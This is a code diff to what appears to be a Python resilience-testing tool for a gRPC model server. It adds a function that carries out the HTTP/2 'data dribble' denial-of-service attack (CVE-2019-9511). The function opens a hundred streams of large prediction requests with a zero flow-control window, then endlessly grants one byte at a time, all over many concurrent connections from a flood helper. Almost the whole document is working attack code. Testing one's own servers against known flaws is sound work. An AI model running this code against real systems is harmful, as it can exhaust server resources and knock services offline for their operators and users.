@@ -176,8 +176,22 @@ def data_by_the_byte(target: Target) -> Rows:
     return _flood(target, frames)
 
 
-def _flood(target: Target, frames: Callable[[], Iterable[bytes]]) -> Rows:
-    """Sends them over several connections at a time, and never reads."""
+def answers_by_the_byte(target: Target) -> Rows:
+    """Answers of 400 kB, a hundred over each connection, with room for a byte at a time (CVE-2019-9511)."""
+    request = wire.predict_request("large", (1,), bytes(4))
+
+    def frames() -> Iterator[bytes]:
+        streams = ODD[:100]
+        yield settings({INITIAL_WINDOW: 0})
+        yield b"".join(call_frames(stream, PREDICT, request) for stream in streams)
+        room = (frame(WINDOW_UPDATE, 0, stream, (1).to_bytes(4, "big")) for stream in streams)
+        yield from itertools.repeat(b"".join(room) * 20)
+
+    return _flood(target, frames, reads=True)
+
+
+def _flood(target: Target, frames: Callable[[], Iterable[bytes]], *, reads: bool = False) -> Rows:
+    """Sends them over several connections at a time; what comes is thrown away where it is read at all."""
     counts = [0] * SENDERS
 
     def send(place: int) -> None:
@@ -185,6 +199,8 @@ def _flood(target: Target, frames: Callable[[], Iterable[bytes]]) -> Rows:
             with contextlib.suppress(OSError), wire.connect(target.grpc, 2) as one:
                 one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                 one.sendall(BEGIN)
+                if reads:
+                    threading.Thread(target=_read, args=(one,), daemon=True).start()
                 for data in frames():
                     one.sendall(data)
                     counts[place] += len(data)
@@ -197,3 +213,9 @@ def _flood(target: Target, frames: Callable[[], Iterable[bytes]]) -> Rows:
     for thread in threads:
         thread.join()
     return ()
+
+
+def _read(one: socket.socket) -> None:
+    with contextlib.suppress(OSError):
+        while one.recv(wire.MEGABYTE):
+            continue
